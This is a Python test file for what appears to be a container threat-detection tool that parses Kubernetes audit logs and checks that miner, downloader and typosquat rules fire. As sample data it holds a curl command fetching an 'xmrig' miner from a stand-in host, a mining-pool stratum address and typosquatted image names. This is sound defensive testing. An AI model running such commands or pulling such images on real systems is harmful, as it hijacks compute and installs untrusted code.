"""Kubernetes audit log: per-container rows, exec, stage de-duplication, bad input, sniffing."""

from __future__ import annotations

import gzip
import json
import shutil
from datetime import UTC, datetime
from pathlib import Path
from typing import Any

from imagehunt.engine.detect import run_scan
from imagehunt.rulepack import load_pack
from imagehunt.sources import docker, k8s
from imagehunt.sources.container_logs import RecentKeys
from imagehunt.sources.inputs import Input
from imagehunt.sources.sniff import read_rows, sniff
from support.events import MINER, write_lines
from support.source_rows import head_of

SAMPLES = Path(__file__).parent / "samples"
AUDIT = SAMPLES / "k8s" / "audit.jsonl"
DOCKER_EVENTS = SAMPLES / "docker" / "events.jsonl"


def rows_of(audit_id: str) -> list[dict[str, Any]]:
    return [row for row in read_rows(AUDIT, "k8s")[0] if row["event.id"] == audit_id]


def audit_event(audit_id: str, stage: str = "ResponseComplete", **extra: Any) -> dict[str, Any]:
    doc: dict[str, Any] = {
        "kind": "Event",
        "apiVersion": "audit.k8s.io/v1",
        "level": "Metadata",
        "auditID": audit_id,
        "stage": stage,
        "verb": "get",
        "requestURI": "/api/v1/namespaces/default/pods/p",
        "user": {"username": "bob"},
        "sourceIPs": ["198.51.100.4"],
        "objectRef": {"resource": "pods", "namespace": "default", "name": "p"},
        "responseStatus": {"code": 200},
        "requestReceivedTimestamp": "2026-11-20T10:00:00.000000Z",
        "stageTimestamp": "2026-11-20T10:00:00.010000Z",
    }
    doc.update(extra)
    return doc


# ---- pod specs --------------------------------------------------------------------------------
def test_pod_create_maps_container_image_command_and_env() -> None:
    (row,) = rows_of("a1")
    assert row["_line"] == 1
    assert row["container.image.name"] == "docker.io/library/alpien"
    assert row["container.image.tag"] == ["3.19"]
    assert row["container.name"] == "backup"
    assert row["process.args"] == ["/bin/sh", "-c", "aws s3 sync /data s3://bucket"]
    assert row["process.command_line"] == "/bin/sh -c aws s3 sync /data s3://bucket"
    assert row["process.working_directory"] == "/data"
    assert row["process.env_vars"] == [
        "AWS_ACCESS_KEY_ID=AKIAIOSFODNN7EXAMPLE",
        "AWS_SECRET_ACCESS_KEY=wJalrXUtnFEMI/K7MDENG/bPxRfiCYEXAMPLEKEY",
        "DB_PASSWORD=<secretKeyRef:db/password>",
        "POD_IP=<fieldRef:status.podIP>",
    ]
    assert row["orchestrator.type"] == "kubernetes"
    assert row["orchestrator.namespace"] == "prod"
    assert row["orchestrator.resource.type"] == "pods"
    assert row["orchestrator.resource.name"] == "backup"
    assert row["user.name"] == "alice@example.com"
    assert row["source.ip"] == "203.0.113.7"
    assert row["user_agent.original"].startswith("kubectl/v1.31.2")
    assert row["event.category"] == ["process"]
    assert row["event.type"] == ["start"]
    assert row["@timestamp"] == datetime(2026, 11, 20, 10, 0, 1, 100000, tzinfo=UTC)


def test_first_stage_wins_so_stages_do_not_double_rows() -> None:
    rows, problems = read_rows(AUDIT, "k8s")
    assert problems.count == 0
    assert [row["_line"] for row in rows if row["event.id"] in ("a1", "a4", "a5")] == [1, 5, 7]
    (first,) = rows_of("a1")
    assert first.get("event.outcome") is None  # RequestReceived has no response yet
    assert len(rows) == 9


def test_workload_templates_give_one_row_per_container() -> None:
    deployment = rows_of("a2")
    assert [r["container.name"] for r in deployment] == ["init", "web", "sidecar"]
    assert [r["container.image.name"] for r in deployment] == [
        "busybox",
        "ngnix",
        "quay.io/team/helper",
    ]
    assert deployment[2].get("container.image.tag") is None  # digest only
    assert deployment[1].get("process.args") is None  # image's own entrypoint
    assert {r["orchestrator.resource.type"] for r in deployment} == {"deployments"}
    assert {r["event.outcome"] for r in deployment} == {"success"}
    (cron,) = rows_of("a3")
    assert cron["container.image.name"] == "registry.example.com:5000/ops/report"
    assert cron["process.executable"] == "/app/report"
    assert cron["event.outcome"] == "failure"


def test_exec_command_comes_from_the_request_uri() -> None:
    (curl,) = rows_of("a4")
    assert curl["process.args"] == ["curl", "-o", "/tmp/x", "http://x/xmrig"]
    assert curl["process.command_line"] == "curl -o /tmp/x http://x/xmrig"
    assert curl["process.name"] == "curl"
    assert curl["container.name"] == "web"
    assert curl["event.action"] == "exec"
    assert curl["orchestrator.resource.type"] == "pods/exec"
    assert curl["event.category"] == ["process"]
    (miner,) = rows_of("a5")
    assert miner["process.args"][2] == "stratum+tcp://pool.example.net:3333"


def test_status_patch_and_list_give_generic_rows() -> None:
    (status,) = rows_of("a7")
    assert status["orchestrator.resource.type"] == "pods/status"
    assert status["event.category"] == ["api"]
    assert status.get("container.name") is None
    (listing,) = rows_of("a6")
    assert listing["event.type"] == ["access"]
    assert listing.get("orchestrator.resource.name") is None


def test_miners_in_pod_specs_and_exec_fire_end_to_end() -> None:
    pack = load_pack(select=["miner_process", "miner_cmdline", "container_downloader"])
    outcome = run_scan(pack, [Input(AUDIT, "audit.jsonl", "k8s")])
    fired = sorted((a.rule.name, a.evidence[0].line) for a in outcome.alerts)
    assert fired == [
        ("miner_cmdline", 3),
        ("miner_cmdline", 7),
        ("miner_process", 3),
        ("miner_process", 7),
    ]
    assert {a.evidence[0].file for a in outcome.alerts} == {"audit.jsonl"}


# ---- bad input, gz, EventList -----------------------------------------------------------------
def test_malformed_lines_are_counted_and_neighbours_read(tmp_path: Path) -> None:
    lines: list[str | dict[str, Any]] = [
        audit_event("x1"),
        "{broken",
        {"kind": "Pod"},
        "",
        audit_event("x2", objectRef="nope", user=[], sourceIPs="1.2.3.4", responseStatus=5),
        '"just a string"',
        audit_event("x3", requestURI=7, objectRef={"resource": "pods", "subresource": "exec"}),
    ]
    path = write_lines(tmp_path / "audit.log", lines)
    rows, problems = read_rows(path, "k8s")
    assert [row["_line"] for row in rows] == [1, 5, 7]
    assert [line for line, _ in problems.first] == [2, 3, 6]
    odd = rows[1]
    assert odd["event.id"] == "x2"
    assert odd.get("user.name") is None
    assert odd.get("source.ip") is None
    assert odd.get("event.outcome") is None
    assert rows[2]["event.action"] == "exec"
    assert rows[2].get("process.args") is None


def test_hostile_pod_spec_shapes_do_not_break_the_row(tmp_path: Path) -> None:
    spec = {
        "containers": [
            "not a container",
            {"name": "c", "image": 5, "command": "xmrig", "args": [1, None, "-o"], "env": [3]},
        ]
    }
    doc = audit_event(
        "h1",
        verb="create",
        requestObject={"spec": spec},
        objectRef={"resource": "pods", "name": "p"},
    )
    (row,) = read_rows(write_lines(tmp_path / "a.log", [doc]), "k8s")[0]
    assert row["container.name"] == "c"
    assert row.get("container.image.name") is None
    assert row["process.args"] == ["-o"]
    assert row.get("process.env_vars") is None


def test_gzip_and_event_list(tmp_path: Path) -> None:
    listing = {
        "kind": "EventList",
        "apiVersion": "audit.k8s.io/v1",
        "items": [audit_event("l1"), audit_event("l2"), audit_event("l1", "Panic"), 4],
    }
    plain = write_lines(tmp_path / "batch.log", [listing])
    target = tmp_path / "batch.log.gz"
    with plain.open("rb") as src, gzip.open(target, "wb") as dst:
        shutil.copyfileobj(src, dst)
    assert sniff(target) == ("k8s", "")
    rows, problems = read_rows(target, "k8s")
    assert [(r["event.id"], r["_line"]) for r in rows] == [("l1", 1), ("l2", 1)]
    assert problems.first == [(1, "audit EventList item is not an object")]


def test_panic_is_a_failure() -> None:
    assert k8s.outcome(audit_event("p", "Panic")) == "failure"
    assert k8s.outcome(audit_event("p", responseStatus={"code": 404})) == "failure"
    assert k8s.outcome(audit_event("p", responseStatus={"code": True})) is None


def test_recent_keys_forget_the_oldest() -> None:
    recent = RecentKeys(2)
    # "c" pushes out "a", the oldest key, so "a" is new again; "c" is still remembered
    seen = [recent.seen(k) for k in ["a", "b", "a", "c", "a", "c"]]
    assert seen == [False, False, True, False, False, True]


# ---- sniffing ---------------------------------------------------------------------------------
def test_sniff_claims_audit_logs_and_only_them(tmp_path: Path) -> None:
    assert sniff(AUDIT) == ("k8s", "")
    bare = {"auditID": "1", "stage": "ResponseComplete", "verb": "get"}
    assert k8s.sniff(head_of(write_lines(tmp_path / "bare.json", [bare])))
    other = {"apiVersion": "v1", "kind": "Event", "reason": "Pulled"}
    assert not k8s.sniff(head_of(write_lines(tmp_path / "core-event.json", [other])))
    ecs = write_lines(tmp_path / "ecs.ndjson", [MINER])
    assert not k8s.sniff(head_of(ecs))
    assert not k8s.sniff(head_of(DOCKER_EVENTS))
    assert not docker.sniff(head_of(AUDIT))
    assert sniff(ecs)[0] == "ecs"


def test_exec_parameters_are_url_decoded(tmp_path: Path) -> None:
    uri = "/api/v1/namespaces/d/pods/p/exec?command=sh&command=-c&command=echo+a%26b&tty=true"
    doc = audit_event(
        "e1",
        verb="create",
        requestURI=uri,
        objectRef=json.loads('{"resource": "pods", "subresource": "exec", "name": "p"}'),
    )
    (row,) = read_rows(write_lines(tmp_path / "a.log", [doc]), "k8s")[0]
    assert row["process.args"] == ["sh", "-c", "echo a&b"]
    assert row.get("container.name") is None


def test_kubectl_debug_ephemeral_container_patch(tmp_path: Path) -> None:
    body = {"spec": {"ephemeralContainers": [{"name": "dbg", "image": "busybox", "args": ["sh"]}]}}
    doc = audit_event(
        "d1",
        verb="patch",
        requestObject=body,
        objectRef={"resource": "pods", "subresource": "ephemeralcontainers", "name": "p"},
    )
    (row,) = read_rows(write_lines(tmp_path / "a.log", [doc]), "k8s")[0]
    assert row["container.name"] == "dbg"
    assert row["container.image.name"] == "busybox"
    assert row["event.type"] == ["change"]
    assert row["orchestrator.resource.type"] == "pods/ephemeralcontainers"


def test_typosquatted_images_in_pod_specs_alert_on_their_lines() -> None:
    path = Path(__file__).parent / "samples" / "k8s" / "audit.jsonl"
    outcome = run_scan(load_pack(select=["image_pull_typosquat"]), [Input(path, str(path), "k8s")])
    found = sorted((a.evidence[0].line, a.fields["container.image.name"]) for a in outcome.alerts)
    assert found == [(1, "docker.io/library/alpien"), (3, "ngnix")]
